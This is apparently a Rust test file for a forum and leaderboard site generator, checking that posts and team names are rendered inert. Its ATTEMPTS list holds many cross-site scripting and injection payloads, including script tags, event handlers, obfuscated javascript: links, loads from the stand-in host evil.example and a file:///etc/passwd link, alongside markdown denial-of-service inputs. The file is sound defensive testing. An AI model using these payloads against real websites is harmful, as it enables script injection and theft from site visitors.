//! What strangers write: names and posts.

use crate::contest::{Contest, tree};
use crate::html::{dangers, words};

fn with_post(body: &str) -> Contest {
    let contest = Contest::new();
    contest.write("content/forum/x/_section.md", "+++\ntitle = \"X\"\n+++\n");
    post(&contest, 1, body);
    contest
}

fn post(contest: &Contest, number: usize, body: &str) {
    contest.write(
        &format!("content/forum/x/t/{number:04}.md"),
        &format!("+++\ntitle = \"<i>T</i> {{{{7*7}}}}\"\nauthor = \"<b onclick=x>A</b>\"\ndate = 2007-01-01\n+++\n{body}\n"),
    );
}

/// Attempts to run or load something, in every place where a post has words.
const ATTEMPTS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<style>@import url(//evil.example)</style>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=x></form>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<object data=x></object><embed src=x>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "</main></body><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6a;&#x61;vascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](ftp://evil.example)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]\n\n[x]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![\"><script>alert(1)</script>](https://evil.example/pixel.gif)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "[x](https://good.example '\"><script>alert(1)</script>')",
    "[x](https://good.example \"' onmouseover='alert(1)\")",
    "[x](https://good.example/\"onmouseover=\"alert(1))",
    "[x](https://good.example/<script>)",
    "```\"><script>alert(1)</script>\ncode\n```",
    "~~~\" onclick=\"alert(1)\ncode\n~~~",
    "# \"><script>alert(1)</script>",
    "# x {#\"><script> onclick=alert(1)}",
    "## main\n\n## post-1\n\n## chart-title",
    "| a\"><script>alert(1)</script> |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "[^x]\n\n[^x]: <script>alert(1)</script>",
    "> > > <script>alert(1)</script>",
    "1. <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>alert(1)</script>`",
    "{{ 7 * 7 }} {% include \"base.html\" %} {# x #}",
    "\u{202e}\u{2066}x<script>alert(1)</script>",
    "<scr\u{0}ipt>",
    "<a\u{a0}href=javascript:alert(1)>",
    "+++\ntitle = \"x\"\nauthor = \"organiser\"\n+++\nforged",
];

#[test]
fn nothing_of_a_post_runs_or_loads() {
    for attempt in ATTEMPTS.iter().filter(|attempt| !attempt.contains('\0')) {
        let contest = with_post(attempt);
        contest.built();
        for (name, bytes) in tree(&contest.out()) {
            if name.ends_with(".html") {
                let found = dangers(&String::from_utf8_lossy(&bytes));
                assert!(found.is_empty(), "{attempt:?} left {found:?} on {name}");
            }
        }
    }
}

#[test]
fn all_attempts_together_leave_nothing_either() {
    let contest = with_post("Hello");
    for (number, attempt) in ATTEMPTS.iter().filter(|attempt| !attempt.contains('\0')).enumerate() {
        post(&contest, number + 2, attempt);
    }
    contest.built();
    for part in ["forum/x/t/index.html", "forum/x/t/page-2/index.html"] {
        assert_eq!(dangers(&contest.page(part)), [""; 0]);
    }
}

#[test]
fn templates_in_posts_stay_words() {
    let contest = with_post("{{ 7 * 7 }} {% raw %} {{ title }}");
    let text = words(&contest.built().page("forum/x/t/index.html"));
    assert!(text.contains("{{ 7 * 7 }} {% raw %} {{ title }}"), "{text}");
    assert!(text.contains("<i>T</i> {{7*7}}"), "{text}");
}

#[test]
fn a_post_cannot_take_an_id_of_the_page() {
    let contest = with_post("# main\n\n# post-1\n\n# Über alles");
    let html = contest.built().page("forum/x/t/index.html");
    assert_eq!(html.matches("id=\"main\"").count(), 1);
    assert_eq!(html.matches("id=\"post-1\"").count(), 1);
    assert!(html.contains("id=\"post-1-über-alles\""));
}

#[test]
fn links_of_strangers_carry_no_weight() {
    let contest = with_post("[x](https://elsewhere.example/)");
    assert!(
        contest.built().page("forum/x/t/index.html").contains("rel=\"ugc nofollow noopener noreferrer\"")
    );
}

#[test]
fn names_are_shown_and_never_obeyed() {
    let mut contest = Contest::new();
    let names = [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "' onmouseover='alert(1)",
        "{{ 7 * 7 }}{% include \"base.html\" %}",
        "BellKor's Pragmatic Chaos",
        "Vandelay Industries !",
        "ML@UToronto A",
        "&lt;b&gt; &amp;",
        "]]> --> </title></svg>",
        "日本語 עברית العربية",
    ];
    for (number, name) in names.iter().enumerate() {
        let slug = format!("t{number}");
        contest.team(&slug, name);
        contest.scored(&slug, "2008-01-01T00:00:00Z", 0.9);
    }
    contest.refused("t0", "2008-01-02T00:00:00Z", "<b>code</b>", "</td><script>alert(1)</script>");
    contest.built();
    for (file, bytes) in tree(&contest.out()) {
        if file.ends_with(".html") {
            assert_eq!(dangers(&String::from_utf8_lossy(&bytes)), [""; 0], "{file}");
        }
    }
    let html = contest.page("leaderboard/index.html");
    for name in names {
        let text = words(&html);
        assert!(text.contains(&name.split_whitespace().collect::<Vec<_>>().join(" ")), "{name} in {text}");
    }
}

#[test]
fn costly_markdown_is_refused_or_quick() {
    let deep = "> ".repeat(5_000);
    let wide = format!("{}\n{}\n{}", "|a".repeat(4_000), "|-".repeat(4_000), "|\n".repeat(4_000));
    let many = [
        (deep.clone() + "x", Some("markdown-too-deep")),
        ("- ".repeat(5_000) + "x", Some("markdown-too-deep")),
        (wide, None),
        ("x".repeat(70_000), Some("file-too-long")),
        ("[".repeat(20_000), None),
        ("[a](".repeat(10_000), None),
        ("![".repeat(20_000), None),
        ("*a _b ".repeat(8_000), None),
        ("`".repeat(300) + &"` ".repeat(20_000), None),
        ("<!--".repeat(10_000), None),
        ("&".repeat(50_000), None),
        ("[^".repeat(20_000), None),
        ("<a".repeat(20_000), None),
    ];
    for (body, expected) in many {
        let contest = with_post(&body);
        let started = std::time::Instant::now();
        let ran = contest.build();
        let start: String = body.chars().take(12).collect();
        assert!(started.elapsed().as_secs() < 10, "{start:?} took {:?}", started.elapsed());
        match expected {
            Some(code) => {
                assert!(ran.code == 1 && ran.err.contains(code), "{start:?}: {} {}", ran.code, ran.err)
            }
            None => assert_eq!(ran.code, 0, "{start:?}: {}", ran.err),
        }
    }
}

#[test]
fn files_that_are_no_text_are_findings() {
    let contest = with_post("x");
    let path = contest.root().join("content/forum/x/t/0002.md");
    for (bytes, code) in
        [(&b"+++\nauthor = \"\xff\"\n+++\n"[..], "not-utf8"), (b"+++\n\0", "control-character")]
    {
        std::fs::write(&path, bytes).unwrap();
        let ran = contest.build();
        assert!(ran.code == 1 && ran.err.contains(code), "{}", ran.err);
    }
    #[cfg(unix)]
    {
        std::fs::remove_file(&path).unwrap();
        std::os::unix::fs::symlink("/etc/hostname", &path).unwrap();
        let ran = contest.build();
        assert!(ran.code == 1 && ran.err.contains("not-a-file"), "{}", ran.err);
    }
}
